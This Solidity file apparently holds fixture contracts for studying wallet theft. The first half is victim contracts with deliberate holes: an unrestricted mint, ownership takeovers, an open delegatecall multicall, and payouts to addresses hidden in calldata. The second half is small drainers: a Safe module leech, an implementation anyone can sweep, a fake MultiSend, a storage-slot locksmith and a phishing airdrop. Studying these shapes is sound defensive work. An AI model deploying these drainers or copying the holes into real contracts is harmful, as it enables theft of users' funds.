// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// What honest people own in the corpus, and what thieves put beside it. Small on purpose: each shows one shape.

interface Token {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface SafeLike {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation)
        external
        returns (bool);
}

// --- what is owned

contract Owned {
    address public owner;

    constructor(address owner_) {
        owner = owner_;
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "not the owner");
        _;
    }

    function transferOwnership(address to) external onlyOwner {
        owner = to;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }
}

/// A till with ether in it, and everything that real ones have had too much of.
contract Till is Owned {
    address payable public payee;
    uint256 public heartbeat;
    mapping(address => uint256) public wards;

    constructor(address owner_, address payable payee_) payable Owned(owner_) {
        payee = payee_;
        heartbeat = block.timestamp;
        wards[owner_] = 1;
    }

    receive() external payable {}

    function fund() external payable {}

    function pay(address payable to, uint256 amount) external onlyOwner {
        to.transfer(amount);
    }

    function sweepTo(address payable to) external onlyOwner {
        to.transfer(address(this).balance);
    }

    function skim(address payable to) external onlyOwner {
        to.transfer(address(this).balance);
    }

    function setPayee(address payable to) external onlyOwner {
        payee = to;
    }

    function payout() external {
        payee.transfer(address(this).balance);
    }

    function beat() external onlyOwner {
        heartbeat = block.timestamp;
    }

    function claimAbandoned() external {
        require(owner == address(0), "not abandoned");
        owner = msg.sender;
    }

    function inherit() external {
        require(block.timestamp > heartbeat + 30 days, "alive");
        payee = payable(msg.sender);
    }

    function rely(address who) external {
        require(wards[msg.sender] == 1, "no ward");
        wards[who] = 1;
    }

    function deny(address who) external {
        require(wards[msg.sender] == 1, "no ward");
        wards[who] = 0;
    }

    function cage(address payable to) external {
        require(wards[msg.sender] == 1, "no ward");
        to.transfer(address(this).balance);
    }

    /// Pays a tip to whoever is named behind the arguments, as forwarders and aggregators do.
    function settle(uint256 tip) external onlyOwner {
        if (msg.data.length == 56) payable(address(bytes20(msg.data[36:56]))).transfer(tip);
    }

    /// Reads its list where a hurried decoder does not look: behind the usual place.
    function note(bytes calldata text) external onlyOwner {
        if (text.length == 20) payable(address(bytes20(text))).transfer(address(this).balance);
    }

    function aggregate3Value(Call3[] calldata calls) external payable onlyOwner {
        for (uint256 i; i < calls.length; ++i) {
            (bool ok,) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(ok, "failed");
        }
    }

    struct Call3 {
        address target;
        bool allowFailure;
        uint256 value;
        bytes data;
    }
}

/// A smart account that the Safe owns.
contract Purse is Owned {
    constructor(address owner_) payable Owned(owner_) {}

    function execute(address target, uint256 value, bytes calldata data) external onlyOwner {
        (bool ok,) = target.call{value: value}(data);
        require(ok, "failed");
    }

    function multicall(bytes[] calldata datas) external {
        for (uint256 i; i < datas.length; ++i) {
            (bool ok,) = address(this).delegatecall(datas[i]);
            require(ok, "failed");
        }
    }
}

contract Note is Owned {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => mapping(address => bool)) public operator;

    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    constructor(address owner_) Owned(owner_) {}

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function increaseAllowance(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] += amount;
        emit Approval(msg.sender, spender, allowance[msg.sender][spender]);
        return true;
    }

    function authorizeOperator(address spender) external {
        operator[msg.sender][spender] = true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (!operator[from][msg.sender]) allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

contract Deed {
    mapping(uint256 => address) public ownerOf;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    mapping(uint256 => address) public getApproved;

    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    event Approval(address indexed owner, address indexed spender, uint256 indexed id);
    event ApprovalForAll(address indexed owner, address indexed operator, bool all);

    function mint(address to, uint256 id) external {
        ownerOf[id] = to;
    }

    function setApprovalForAll(address to, bool all) external {
        isApprovedForAll[msg.sender][to] = all;
        emit ApprovalForAll(msg.sender, to, all);
    }

    function safeTransferFrom(address from, address to, uint256 id) external {
        require(ownerOf[id] == from, "not there");
        require(msg.sender == from || isApprovedForAll[from][msg.sender] || getApproved[id] == msg.sender, "no");
        ownerOf[id] = to;
        emit Transfer(from, to, id);
    }
}

/// Allowances for many tokens in one place, as Permit2 keeps them.
contract Passport {
    mapping(address => mapping(address => mapping(address => uint160))) public allowance;

    function approve(address token, address spender, uint160 amount, uint48) external {
        allowance[msg.sender][token][spender] = amount;
    }

    function transferFrom(address from, address to, uint160 amount, address token) external {
        allowance[from][token][msg.sender] -= amount;
        Token(token).transferFrom(from, to, amount);
    }
}

/// A proxy from before ERC-1967.
contract OldProxy {
    address public admin;
    address public target;

    constructor(address admin_, address target_) payable {
        admin = admin_;
        target = target_;
    }

    function setImplementation(address code) external {
        require(msg.sender == admin, "not the admin");
        target = code;
    }

    function changeAdmin(address to) external {
        require(msg.sender == admin, "not the admin");
        admin = to;
    }

    fallback() external payable {
        (bool ok, bytes memory answer) = target.delegatecall(msg.data);
        require(ok, string(answer));
    }
}

contract Admin is Owned {
    constructor(address owner_) Owned(owner_) {}

    function upgradeAndCall(address proxy, address code, bytes calldata data) external onlyOwner {
        OldProxy(payable(proxy)).setImplementation(code);
        if (data.length > 0) {
            (bool ok,) = proxy.call(data);
            require(ok, "failed");
        }
    }
}

contract Beacon is Owned {
    address public implementation;

    constructor(address owner_, address code) Owned(owner_) {
        implementation = code;
    }

    function upgradeTo(address code) external onlyOwner {
        implementation = code;
    }
}

contract Beaconed {
    Beacon public beacon;

    constructor(Beacon beacon_) payable {
        beacon = beacon_;
    }

    fallback() external payable {
        (bool ok,) = beacon.implementation().delegatecall(msg.data);
        require(ok, "failed");
    }
}

contract Diamond is Owned {
    struct Cut {
        address facet;
        uint8 action;
        bytes4[] selectors;
    }

    mapping(bytes4 => address) public facets;

    constructor(address owner_) payable Owned(owner_) {}

    function diamondCut(Cut[] calldata cuts, address, bytes calldata) external onlyOwner {
        for (uint256 i; i < cuts.length; ++i) {
            for (uint256 j; j < cuts[i].selectors.length; ++j) facets[cuts[i].selectors[j]] = cuts[i].facet;
        }
    }

    fallback() external payable {
        (bool ok,) = facets[msg.sig].delegatecall(msg.data);
        require(ok, "failed");
    }
}

contract Plain {
    function ping() external pure returns (uint256) {
        return 1;
    }
}

/// A guard that lets no more than a little ether out in one transaction.
contract Thrift {
    function supportsInterface(bytes4) external pure returns (bool) {
        return true;
    }

    fallback() external {
        require(uint256(bytes32(msg.data[36:68])) <= 1 ether, "too much at once");
    }
}

/// A module with which the Safe's people may pay a fixed payee.
contract Standing {
    function run() external pure {}
}

// --- what thieves bring

contract Trojan {
    function transfer(address to, uint256) external {
        assembly {
            sstore(0, to)
        }
    }
}

/// Once it is a Safe's singleton, or a proxy's code, everything is anybody's.
contract Hollow {
    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }

    function sweep(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepToken(address token, address to) external {
        Token(token).transfer(to, Token(token).balanceOf(address(this)));
    }
}

/// Answers like MultiSend, and sends the ether elsewhere.
contract Lookalike {
    address payable immutable to;

    constructor(address payable to_) {
        to = to_;
    }

    function multiSend(bytes calldata) external payable {
        to.transfer(address(this).balance);
    }
}

contract Locksmith {
    /// The module list of a Safe, written to from inside.
    function enable(address module) external {
        mapping(address => address) storage modules = _modules();
        modules[module] = address(1);
        modules[address(1)] = module;
    }

    function guard(address guard_) external {
        bytes32 slot = keccak256("guard_manager.guard.address");
        assembly {
            sstore(slot, guard_)
        }
    }

    function approve(address token, address spender) external {
        Token(token).approve(spender, type(uint256).max);
    }

    function _modules() private pure returns (mapping(address => address) storage found) {
        assembly {
            found.slot := 1
        }
    }
}

contract Leech {
    function take(address safe, address to) external {
        SafeLike(safe).execTransactionFromModule(to, safe.balance, "", 0);
    }
}

/// A guard that nobody passes.
contract Padlock {
    function supportsInterface(bytes4) external pure returns (bool) {
        return true;
    }

    fallback() external {
        revert("pay first");
    }
}

/// Takes deposits, and gives them to its maker.
contract Pit {
    address payable immutable maker;

    constructor(address payable maker_) {
        maker = maker_;
    }

    function deposit() external payable {
        maker.transfer(address(this).balance);
    }

    function claimAirdrop(address token, uint256 amount) external {
        Token(token).transferFrom(msg.sender, maker, amount);
    }
}

contract Maker {
    function make(bytes32 salt, address payable to) external returns (address) {
        return address(new Late{salt: salt}(to));
    }
}

/// Stands where ether has been waiting for it.
contract Late {
    constructor(address payable to) {
        to.transfer(address(this).balance);
    }
}

/// What stands where the till stood.
contract Swapped {
    function fund() external payable {}

    function sweep(address payable to) external {
        to.transfer(address(this).balance);
    }
}
